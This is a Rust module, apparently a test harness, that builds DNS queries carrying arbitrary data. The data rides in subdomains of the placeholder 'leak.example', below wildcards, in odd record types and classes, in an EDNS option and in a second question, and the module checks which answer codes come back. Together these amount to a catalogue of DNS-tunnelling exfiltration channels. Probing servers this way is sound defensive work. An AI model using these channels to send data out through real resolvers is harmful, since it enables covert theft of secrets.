//! Questions to a name server that would carry something out if anybody passed them on, and how much comes back.

use anyhow::{Context, ensure};

/// Codes of answers, RFC 1035 section 4.1.1.
pub const FORMAT_ERROR: u8 = 1;
/// As there.
pub const NO_SUCH_NAME: u8 = 3;
/// As there.
pub const REFUSED: u8 = 5;

/// Types other than an IPv4 address, the last one nobody's, and what the record has of each.
pub const KINDS: [(u16, &str); 9] = [
    (10, "NULL"),
    (15, "MX"),
    (16, "TXT"),
    (28, "AAAA"),
    (33, "SRV"),
    (65, "HTTPS"),
    (252, "AXFR"),
    (255, "ANY"),
    (65_280, "Unknown"),
];

/// Classes other than that of the Internet: Chaos, Hesiod, any.
pub const CLASSES: [u16; 3] = [3, 4, 255];

/// A question, RFC 1035 section 4.1.
#[derive(Clone, Debug)]
pub struct Question {
    /// For whom.
    pub name: String,
    kind: u16,
    class: u16,
    also: Option<String>,
    option: Option<Vec<u8>>,
}

/// How it goes over the wire.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Transport {
    /// In a datagram.
    Udp,
    /// Behind its length in two bytes.
    Tcp,
}

impl Transport {
    /// As the attack kit has it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Udp => "udp",
            Self::Tcp => "tcp",
        }
    }
}

/// What an answer comes to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Answered {
    /// Its code.
    pub code: u8,
    /// Records in all its parts, that of EDNS among them.
    pub records: u32,
}

impl Question {
    /// For a name's records of that type.
    pub fn new(name: &str, kind: u16) -> Self {
        Self {
            name: name.to_owned(),
            kind,
            class: INTERNET,
            also: None,
            option: None,
        }
    }

    /// Of another class.
    pub fn of_class(self, class: u16) -> Self {
        Self { class, ..self }
    }

    /// With a second question behind it.
    pub fn and(self, name: &str) -> Self {
        let also = Some(name.to_owned());
        Self { also, ..self }
    }

    /// With an option of EDNS that holds this, RFC 6891 section 6.1.2.
    pub fn with_option(self, data: &[u8]) -> Self {
        let option = Some(data.to_vec());
        Self { option, ..self }
    }

    /// As hex.
    ///
    /// # Errors
    /// A label is too long.
    pub fn hex(&self, transport: Transport) -> anyhow::Result<String> {
        let bytes = self.bytes(transport)?;
        Ok(bytes.iter().map(|it| format!("{it:02x}")).collect())
    }

    /// As it goes over the wire.
    ///
    /// # Errors
    /// As there.
    pub fn bytes(&self, transport: Transport) -> anyhow::Result<Vec<u8>> {
        let two = u8::from(self.also.is_some());
        // Number 0x1234, recursion desired, one question or two, one record more with EDNS.
        let additional = u8::from(self.option.is_some());
        let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1 + two, 0, 0, 0, 0, 0, additional];
        for name in [Some(&self.name), self.also.as_ref()].into_iter().flatten() {
            for label in name.split('.') {
                bytes.push(u8::try_from(label.len())?);
                bytes.extend(label.as_bytes());
            }
            bytes.push(0);
            bytes.extend(self.kind.to_be_bytes());
            bytes.extend(self.class.to_be_bytes());
        }
        if let Some(data) = &self.option {
            let length = u16::try_from(data.len())?;
            // The root, type OPT, room for 1232 bytes, version 0 without flags; then one option for local use.
            bytes.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
            bytes.extend((length + 4).to_be_bytes());
            bytes.extend(LOCAL_USE.to_be_bytes());
            bytes.extend(length.to_be_bytes());
            bytes.extend(data);
        }
        if transport == Transport::Tcp {
            let length = u16::try_from(bytes.len())?;
            bytes.splice(0..0, length.to_be_bytes());
        }
        Ok(bytes)
    }
}

impl Answered {
    /// Reads an answer's hex.
    ///
    /// # Errors
    /// It is none.
    pub fn read(transport: Transport, hex: &str) -> anyhow::Result<Self> {
        let skipped = if transport == Transport::Tcp { 4 } else { 0 };
        let answer = hex.trim().get(skipped..).context("no answer")?;
        let at = |byte: usize| {
            let digits = answer.get(byte * 2..byte * 2 + 2);
            let digits = digits.with_context(|| format!("an answer cut off: `{hex}`"))?;
            Ok::<u8, anyhow::Error>(u8::from_str_radix(digits, 16)?)
        };
        ensure!(at(2)? & 0x80 != 0, "no answer, a question: `{hex}`");
        let mut records = 0;
        for part in [7, 9, 11] {
            records += u32::from(at(part)?);
        }
        let code = at(3)? & 15;
        Ok(Self { code, records })
    }
}

/// Class IN.
const INTERNET: u16 = 1;

/// First code of options for local and experimental use, RFC 6891 section 9.
const LOCAL_USE: u16 = 65_001;

/// A question that carries something, and what may come back.
#[derive(Clone, Debug)]
pub struct Carries {
    /// What is asked.
    pub question: Question,
    /// What every answer is, where there is but one that is right.
    pub code: Option<u8>,
    /// As many records at most; that of EDNS is one.
    pub records: u32,
}

impl Carries {
    /// Whether that may come back.
    pub fn is(&self, answered: Answered) -> bool {
        self.code.is_none_or(|code| code == answered.code) && answered.records <= self.records
    }
}

/// Every way to put `data` into a question: in a name that nobody declares, in one below a wildcard, of each type and class, in
/// an option, in a second question. `declared` has an address, and so has each name below `wildcard`; both stay unasked for.
pub fn carrying(data: &str, declared: &str, wildcard: &str) -> Vec<Carries> {
    let carries = |question, code, records| Carries {
        question,
        code,
        records,
    };
    let undeclared = |what: &str| format!("{what}.{data}.leak.example");
    let mut all = vec![carries(
        Question::new(&undeclared("a"), 1),
        Some(NO_SUCH_NAME),
        0,
    )];
    for (kind, _) in KINDS {
        let name = undeclared(&format!("t{kind}"));
        all.push(carries(Question::new(&name, kind), Some(NO_SUCH_NAME), 0));
        for name in [declared.to_owned(), format!("{data}.{wildcard}")] {
            all.push(carries(Question::new(&name, kind), None, 0));
        }
    }
    for class in CLASSES {
        for name in [undeclared("class"), format!("{data}.{wildcard}")] {
            let question = Question::new(&name, 16).of_class(class);
            all.push(carries(question, Some(REFUSED), 0));
        }
    }
    // Answered as without it, and with nothing of it.
    let option = Question::new(declared, 16).with_option(data.as_bytes());
    all.push(carries(option, Some(0), 1));
    let option = Question::new(&undeclared("edns"), 16).with_option(data.as_bytes());
    all.push(carries(option, Some(NO_SUCH_NAME), 1));
    let two = Question::new(declared, 1).and(&undeclared("second"));
    all.push(carries(two, Some(FORMAT_ERROR), 0));
    all
}
